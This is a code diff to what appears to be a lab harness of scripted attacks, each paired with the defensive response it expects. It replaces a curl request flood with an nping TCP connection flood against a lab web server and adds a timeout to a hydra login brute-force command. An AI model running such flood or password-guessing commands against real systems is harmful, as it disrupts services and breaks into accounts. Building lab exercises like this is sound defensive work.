@@ -40,9 +40,9 @@ export const responseAttacks: readonly ResponseAttack[] = [
   },
   {
     name: 'dos',
-    says: 'attacker opens connections to web1 as fast as curl can, each for one page',
+    says: 'attacker opens 500 connections to web1 each second with nping, and says nothing on them',
     answer: 'rate_limit',
-    run: floodWithRequests,
+    run: floodWithConnections,
   },
   {
     name: 'web-attack',
@@ -73,15 +73,17 @@ async function callHome(lab: ResponseHosts, options: AttackOptions = {}): Promis
   return `${calls} calls were made`
 }
 
-/** A page for each connection, as visitors' browsers of long ago did, so that each costs web1 a handshake. */
-async function floodWithRequests(lab: ResponseHosts, options: AttackOptions = {}): Promise<string> {
+/** Handshakes that are completed, so that the address is no forged one, and of which nothing comes. */
+async function floodWithConnections(
+  lab: ResponseHosts,
+  options: AttackOptions = {},
+): Promise<string> {
   const { count = 4_000 } = options
-  const url = `http://${lab.host('web1').address}/page1.html?[1-${count}]`
-  const many = ['-s', '-Z', '--parallel-max', '60', '--parallel-immediate', '--no-keepalive']
-  const each = ['-H', 'Connection: close', '-m', '20', '-w', '%{http_code}\\n', '-o', '/dev/null']
-  const { stdout } = await lab.host('attacker').attempt(['curl', ...many, ...each, url])
-  const answered = stdout.split('\n').filter((line) => line === '200').length
-  return `${answered} of ${count} requests were answered`
+  const bounds = ['--rate', '500', '-c', String(count)]
+  const line = ['timeout', '120', 'nping', '-q', '--tcp-connect', '-p', '80', ...bounds]
+  const { stdout } = await lab.host('attacker').attempt([...line, lab.host('web1').address])
+  const opened = /Successful connections: (\d+)/.exec(stdout)?.[1] ?? '0'
+  return `${opened} of ${count} connections were opened`
 }
 
 async function guessAtForm(lab: ResponseHosts, options: AttackOptions = {}): Promise<string> {
@@ -95,7 +97,7 @@ async function guessAtForm(lab: ResponseHosts, options: AttackOptions = {}): Pro
   // hydra leaves its restore file in the working folder.
   const shell = `cd ${attacker.folder} && exec "$@"`
   const { stdout } = await attacker.attempt([
-    ...['sh', '-c', shell, 'sh', ...line],
+    ...['sh', '-c', shell, 'sh', 'timeout', '120', ...line],
     ...['http-post-form', form],
   ])
   return /password: /.test(stdout) ? 'a password was found' : 'no password was found'
